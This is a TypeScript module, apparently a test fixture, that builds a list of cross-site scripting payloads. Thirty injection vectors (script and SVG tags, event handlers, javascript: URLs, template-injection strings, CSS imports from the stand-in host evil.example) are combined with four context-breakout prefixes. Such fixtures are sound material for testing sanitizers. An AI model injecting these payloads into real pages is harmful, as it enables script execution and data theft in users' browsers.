// Texts that would run a script wherever text becomes markup, a URL or code: thirty ways to get something run, in the places
// where a careless page would put a text.

const VECTORS = [
  '<script>pwned()</script>',
  '<ScRiPt>pwned()</sCrIpT>',
  '<script src=data:text/javascript,pwned()></script>',
  '<img src=x onerror=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned()</script></svg>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>',
  '<iframe src=javascript:parent.pwned()></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data=javascript:pwned()>',
  '<embed src=javascript:pwned()>',
  '<a href=javascript:pwned() autofocus onfocus=pwned()>x</a>',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<video><source onerror=pwned()></video>',
  '<body onload=pwned()>',
  '<link rel=stylesheet href=data:text/css,*{background:url(//evil.example)}>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example)}</style>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<base href=//evil.example/>',
  '<form action=javascript:pwned()><button autofocus>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  'javascript:pwned()',
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '&lt;script&gt;pwned()&lt;/script&gt;',
] as const

const PLACES: readonly ((vector: string) => string)[] = [(vector) => vector, (vector) => `">${vector}`, (vector) => `'-pwned()-'</title></style></script>${vector}`, (vector) => `]]>\n-->${vector}<!--`]

/** The texts. */
export const PAYLOADS: readonly string[] = VECTORS.flatMap((vector) => PLACES.map((place) => place(vector)))
